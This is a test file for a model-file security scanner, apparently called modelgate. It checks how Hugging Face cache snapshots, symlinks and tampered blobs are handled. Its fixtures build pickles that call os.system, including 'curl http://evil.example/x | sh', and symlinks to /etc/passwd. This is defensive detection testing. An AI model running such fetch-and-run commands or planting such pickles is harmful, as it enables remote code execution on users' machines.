import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { runScan } from '../../src/app/index.js';
import { describeHfCache, selectHfCache } from '../../src/app/hf-cache.js';
import { isModelgateError } from '../../src/core/errors.js';
import type { FileResult } from '../../src/core/report-types.js';
import { buildZip } from '../../src/formats/zip/builder.js';
import { hubCacheDir } from '../../src/sources/hf/config.js';
import { siblingsOf } from '../../src/sources/local/siblings.js';
import { sha256 } from '../helpers/fixture-hub.js';
import { blobName, writeCachedSnapshot } from '../helpers/hf-cache.js';
import { osSystemPickle, plainPickle } from '../helpers/pickles.js';

const work = mkdtempSync(join(tmpdir(), 'mg-hfcache-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** A PyTorch checkpoint whose pickle calls os.system. */
const evil = buildZip([
  { name: 'archive/data.pkl', data: osSystemPickle('curl http://evil.example/x | sh') },
  { name: 'archive/version', data: Buffer.from('3\n') },
]);
const config = Buffer.from('{"model_type": "bert"}\n');
const COMMIT = 'a'.repeat(40);
const OLD = 'b'.repeat(40);

/** A cache with one repo at two revisions sharing config.json, the evil checkpoint only at main, and nested files. */
function makeCache(name: string): { root: string; entry: string } {
  const root = join(work, name);
  const entry = writeCachedSnapshot(root, 'acme/bert', COMMIT, [
    { path: 'config.json', content: config },
    { path: 'pytorch_model.bin', content: evil },
    { path: 'onnx/deep/model.pkl', content: osSystemPickle('id') },
  ]);
  writeCachedSnapshot(root, 'acme/bert', OLD, [{ path: 'config.json', content: config }], { refs: ['v1', 'refs/pr/1'] });
  return { root, entry };
}

const scan = (targets: string[]) => runScan({ targets, workers: 0 });
const byPath = (files: FileResult[], path: string): FileResult => {
  const f = files.find((x) => x.path === path);
  if (!f) throw new Error(`no ${path} in ${files.map((x) => x.path).join(', ')}`);
  return f;
};

describe('a Hugging Face cache snapshot is scanned as the repo it is', () => {
  const { root, entry } = makeCache('layout');
  const snapshot = join(entry, 'snapshots', COMMIT);

  it('follows its links into the entry blobs and reports files under their repo paths, with the blob hash', async () => {
    const r = await scan([snapshot]);
    expect(r.files.map((f) => f.path)).toEqual(['config.json', 'onnx/deep/model.pkl', 'pytorch_model.bin']);
    const bin = byPath(r.files, 'pytorch_model.bin');
    expect(bin).toMatchObject({ format: 'pytorch-zip', verdict: 'malicious', size: evil.length, sha256: sha256(evil), sha256Source: 'computed' });
    expect(bin.hfCache).toEqual({ repo: 'acme/bert', type: 'model', commit: COMMIT, refs: ['main'], path: 'pytorch_model.bin', blob: sha256(evil) });
    expect(bin.findings.some((f) => f.ruleId === 'pickle/dangerous-callable' && f.severity === 'critical')).toBe(true);
    // A nested path's link is ../../../../blobs/…: still followed.
    expect(byPath(r.files, 'onnx/deep/model.pkl')).toMatchObject({ verdict: 'malicious', hfCache: { path: 'onnx/deep/model.pkl' } });
    expect(byPath(r.files, 'config.json')).toMatchObject({ verdict: 'clean', hfCache: { blob: blobName({ path: 'config.json', content: config }) } });
    expect(r.files.some((f) => f.format === 'symlink')).toBe(false);
  });

  it('scans the same files in scan workers', async () => {
    const r = await runScan({ targets: [snapshot], workers: 1 });
    expect(byPath(r.files, 'pytorch_model.bin')).toMatchObject({ verdict: 'malicious', hfCache: { commit: COMMIT } });
  });

  it('scans a whole entry: every snapshot, a shared blob under each of its paths, and no served blob again under blobs/', async () => {
    const r = await scan([entry]);
    const paths = r.files.map((f) => f.path);
    expect(paths).toContain(`snapshots/${COMMIT}/pytorch_model.bin`);
    expect(paths.filter((p) => p.startsWith('blobs/'))).toEqual([]);
    const configs = r.files.filter((f) => f.hfCache?.path === 'config.json');
    expect(configs.map((f) => [f.hfCache?.commit, f.hfCache?.refs])).toEqual([
      [COMMIT, ['main']],
      [OLD, ['refs/pr/1', 'v1']],
    ]);
    expect(configs.every((f) => f.hfCache?.blob === configs[0]!.hfCache?.blob)).toBe(true);
    expect(byPath(r.files, `snapshots/${COMMIT}/pytorch_model.bin`)).toMatchObject({ verdict: 'malicious', hfCache: { path: 'pytorch_model.bin' } });
  });

  it('still reports a blob no snapshot links to, under blobs/', async () => {
    const { entry: e } = makeCache('orphan');
    writeFileSync(join(e, 'blobs', 'c'.repeat(64)), osSystemPickle());
    const r = await scan([e]);
    expect(byPath(r.files, `blobs/${'c'.repeat(64)}`)).toMatchObject({ verdict: 'malicious' });
  });

  it('scans the whole cache folder the same way', async () => {
    const r = await scan([root]);
    expect(byPath(r.files, `models--acme--bert/snapshots/${COMMIT}/pytorch_model.bin`)).toMatchObject({ verdict: 'malicious' });
  });

  it('reads siblings through the snapshot links', () => {
    const sibling = siblingsOf(join(snapshot, 'pytorch_model.bin'))('config.json');
    expect(sibling?.read()).toEqual(config);
    expect(siblingsOf(join(snapshot, 'pytorch_model.bin'))('missing.json')).toBeUndefined();
  });

  it('follows the links of a repo folder named snapshots/ like any other folder of the repo', async () => {
    const e = writeCachedSnapshot(join(work, 'nested-name'), 'acme/n', COMMIT, [{ path: 'snapshots/v2/inner.pkl', content: osSystemPickle('id') }]);
    const r = await scan([join(e, 'snapshots', COMMIT)]);
    expect(r.files).toEqual([
      expect.objectContaining({ path: 'snapshots/v2/inner.pkl', verdict: 'malicious', hfCache: expect.objectContaining({ path: 'snapshots/v2/inner.pkl' }) }),
    ]);
  });

  it('flags a blob whose bytes are not those its name (the Hub SHA-256) says: a cache changed after download', async () => {
    const e = writeCachedSnapshot(join(work, 'tampered'), 'acme/t', COMMIT, [{ path: 'model.safetensors', content: Buffer.from('weights') }]);
    writeFileSync(join(e, 'blobs', sha256(Buffer.from('weights'))), 'other bytes');
    const r = await scan([join(e, 'snapshots', COMMIT)]);
    expect(r.files[0]!.findings.find((f) => f.ruleId === 'repo/hash-mismatch')).toMatchObject({
      severity: 'high',
      evidence: `expected ${sha256(Buffer.from('weights'))}, got ${sha256(Buffer.from('other bytes'))}`,
    });
    expect(r.files[0]!.verdict).toBe('malicious');
    // A blob named by its git blob id (a small text file) is not a SHA-256 and is not compared.
    expect((await scan([snapshot])).files.flatMap((f) => f.findings).some((f) => f.ruleId === 'repo/hash-mismatch')).toBe(false);
  });

  it('reports a plain file of a snapshot (huggingface_hub writes files where it cannot make links) under its repo path', async () => {
    const e = writeCachedSnapshot(join(work, 'no-links'), 'acme/w', COMMIT, []);
    mkdirSync(join(e, 'snapshots', COMMIT), { recursive: true });
    writeFileSync(join(e, 'snapshots', COMMIT, 'pytorch_model.bin'), evil);
    const r = await scan([e]);
    expect(byPath(r.files, `snapshots/${COMMIT}/pytorch_model.bin`)).toMatchObject({
      verdict: 'malicious',
      hfCache: { repo: 'acme/w', commit: COMMIT, refs: ['main'], path: 'pytorch_model.bin' },
    });
    expect(byPath(r.files, `snapshots/${COMMIT}/pytorch_model.bin`).hfCache?.blob).toBeUndefined();
  });

  it('follows a snapshot link named as a target, keeping its repo path and revision', async () => {
    const target = join(snapshot, 'pytorch_model.bin');
    const r = await scan([target]);
    expect(r.files).toHaveLength(1);
    expect(r.files[0]).toMatchObject({
      path: target,
      verdict: 'malicious',
      sha256: sha256(evil),
      hfCache: { repo: 'acme/bert', commit: COMMIT, path: 'pytorch_model.bin' },
    });
  });
});

describe('links of a snapshot that leave its entry are flagged and not followed', () => {
  const { root, entry } = makeCache('escapes');
  const snapshot = join(entry, 'snapshots', COMMIT);
  // Another repo's entry in the same cache, with a blob of its own.
  const other = writeCachedSnapshot(root, 'other/repo', COMMIT, [{ path: 'weights.bin', content: osSystemPickle() }]);
  const outside = join(work, 'outside.pkl');
  writeFileSync(outside, osSystemPickle());
  const links: Array<[string, string, RegExp]> = [
    ['absolute.bin', '/etc/passwd', /leaves the Hugging Face cache entry models--acme--bert/],
    ['absolute-outside.bin', outside, /leaves the Hugging Face cache entry/],
    ['dotdot.bin', '../../../../../../../../etc/passwd', /leaves the Hugging Face cache entry/],
    ['other-entry.bin', `../../../models--other--repo/blobs/${blobName({ path: 'weights.bin', content: osSystemPickle() })}`, /leaves/],
    ['not-a-blob.json', '../../refs/main', /not a blob of the Hugging Face cache entry/],
    ['missing.bin', `../../blobs/${'d'.repeat(64)}`, /a blob missing from/],
    ['blobs-folder.bin', '../../blobs', /not a blob/],
    ['link-to-link.bin', '../../blobs/hop', /not a regular file in the Hugging Face cache entry/],
  ];
  symlinkSync(outside, join(entry, 'blobs', 'hop'));
  for (const [name, link] of links) symlinkSync(link, join(snapshot, name));

  it.each(links)('%s -> %s', async (name, link, why) => {
    for (const target of [snapshot, entry, root]) {
      const r = await scan([target]);
      const file = r.files.find((f) => f.path.endsWith(name))!;
      expect(file).toMatchObject({ format: 'symlink', verdict: 'suspicious' });
      expect(file.findings[0]).toMatchObject({ ruleId: 'file/symlink', severity: 'medium', evidence: link });
      expect(file.findings[0]!.message).toMatch(why);
      expect(file.hfCache).toBeUndefined();
    }
  });

  it('still follows the good links beside them, and the other entry keeps its own', async () => {
    const r = await scan([root]);
    expect(byPath(r.files, `models--acme--bert/snapshots/${COMMIT}/pytorch_model.bin`).verdict).toBe('malicious');
    expect(byPath(r.files, `models--other--repo/snapshots/${COMMIT}/weights.bin`)).toMatchObject({ verdict: 'malicious', hfCache: { repo: 'other/repo' } });
    expect(other).toContain('models--other--repo');
  });

  it('does not follow links of a snapshot reached through a linked folder', async () => {
    // snapshots/<commit> itself a link to a folder elsewhere: its `../../blobs` would be another folder's.
    const e = writeCachedSnapshot(join(work, 'linked-dir'), 'acme/x', COMMIT, [{ path: 'a.bin', content: osSystemPickle() }]);
    const away = join(work, 'away', 'snap');
    mkdirSync(away, { recursive: true });
    symlinkSync('../../blobs/whatever', join(away, 'b.bin'));
    symlinkSync(away, join(e, 'snapshots', OLD));
    const r = await scan([e]);
    expect(byPath(r.files, `snapshots/${OLD}`)).toMatchObject({ format: 'symlink', verdict: 'suspicious' });
  });

  it('treats a folder that only looks like an entry (no blobs/ folder) as an ordinary folder', async () => {
    const fake = join(work, 'fake', 'models--a--b', 'snapshots', COMMIT);
    mkdirSync(fake, { recursive: true });
    mkdirSync(join(work, 'fake', 'models--a--b', 'blobs-not'), { recursive: true });
    symlinkSync(outside, join(fake, 'x.bin'));
    const r = await scan([join(work, 'fake')]);
    expect(r.files[0]).toMatchObject({ format: 'symlink', verdict: 'suspicious' });
  });
});

describe('a link named as a target is followed', () => {
  it('to a file anywhere, reported under the name given', async () => {
    const away = join(work, 'away-file.bin');
    writeFileSync(away, osSystemPickle());
    const link = join(work, 'named-link.bin');
    symlinkSync(away, link);
    const r = await scan([link]);
    expect(r.files).toEqual([expect.objectContaining({ path: link, format: 'pickle', verdict: 'malicious', sha256: sha256(osSystemPickle()) })]);
  });

  it('to a folder, whose files are walked', async () => {
    const dir = join(work, 'away-dir');
    mkdirSync(dir);
    writeFileSync(join(dir, 'w.pkl'), plainPickle());
    const link = join(work, 'named-dir');
    symlinkSync(dir, link);
    const r = await scan([link]);
    expect(r.files).toEqual([expect.objectContaining({ path: 'w.pkl', verdict: 'clean' })]);
  });

  it('a dangling one is an error, never clean', async () => {
    const link = join(work, 'dangling.bin');
    symlinkSync(join(work, 'nothing-here'), link);
    const r = await scan([link]);
    expect(r.files[0]).toMatchObject({ path: link, verdict: 'error' });
  });

  it('while a link inside a scanned folder is still not followed', async () => {
    const dir = join(work, 'plain-dir');
    mkdirSync(dir);
    symlinkSync(join(work, 'away-file.bin'), join(dir, 'l.bin'));
    const r = await scan([dir]);
    expect(r.files[0]).toMatchObject({ path: 'l.bin', format: 'symlink', verdict: 'suspicious' });
  });
});

describe('--hf-cache: the cache huggingface_hub uses', () => {
  it('is found as huggingface_hub resolves it', () => {
    expect(hubCacheDir({ HF_HUB_CACHE: '/c', HUGGINGFACE_HUB_CACHE: '/l', HF_HOME: '/h' })).toBe('/c');
    expect(hubCacheDir({ HUGGINGFACE_HUB_CACHE: '/l', HF_HOME: '/h' })).toBe('/l');
    expect(hubCacheDir({ HF_HOME: '/h', XDG_CACHE_HOME: '/x' })).toBe('/h/hub');
    expect(hubCacheDir({ XDG_CACHE_HOME: '/x' })).toBe('/x/huggingface/hub');
    expect(hubCacheDir({})).toBe(join(homedir(), '.cache', 'huggingface', 'hub'));
    expect(hubCacheDir({ HF_HOME: '~/hf' })).toBe(join(homedir(), 'hf', 'hub'));
    expect(hubCacheDir({ HF_HUB_CACHE: '$BASE/${SUB}/hub', BASE: '/b', SUB: 's' })).toBe('/b/s/hub');
  });

  it('selects every repo, one repo, or one revision, and says which revisions are there', async () => {
    const { root, entry } = makeCache('select');
    writeCachedSnapshot(root, 'acme/data', COMMIT, [{ path: 'train.pkl', content: plainPickle() }], { type: 'datasets' });
    const env = { HF_HUB_CACHE: root };
    const all = selectHfCache(undefined, env);
    expect(all.targets).toEqual([join(root, 'datasets--acme--data'), entry]);
    expect(describeHfCache(all)).toEqual([
      `Hugging Face cache ${root}:`,
      `  acme/data (dataset): ${COMMIT} (main)`,
      `  acme/bert: ${COMMIT} (main), ${OLD} (refs/pr/1, v1)`,
    ]);
    expect(selectHfCache('acme/bert', env).targets).toEqual([entry]);
    expect(selectHfCache('hf:acme/bert', env).targets).toEqual([entry]);
    expect(selectHfCache('datasets/acme/data', env).targets).toEqual([join(root, 'datasets--acme--data')]);
    expect(selectHfCache('acme/bert@v1', env).targets).toEqual([join(entry, 'snapshots', OLD)]);
    expect(selectHfCache(`acme/bert@${COMMIT.slice(0, 7)}`, env).targets).toEqual([join(entry, 'snapshots', COMMIT)]);
    for (const bad of ['acme/none', 'acme/bert@nope'])
      expect(() => selectHfCache(bad, env)).toThrow(expect.objectContaining({ code: 'USAGE' }) as unknown as Error);
    expect(() => selectHfCache(undefined, { HF_HUB_CACHE: join(work, 'empty') })).toSatisfy((f: () => void) => {
      try {
        f();
        return false;
      } catch (e) {
        return isModelgateError(e, 'USAGE');
      }
    });
    const r = await scan(selectHfCache('acme/bert', env).targets);
    expect(byPath(r.files, `snapshots/${COMMIT}/pytorch_model.bin`)).toMatchObject({
      verdict: 'malicious',
      hfCache: { path: 'pytorch_model.bin', refs: ['main'] },
    });
  });
});
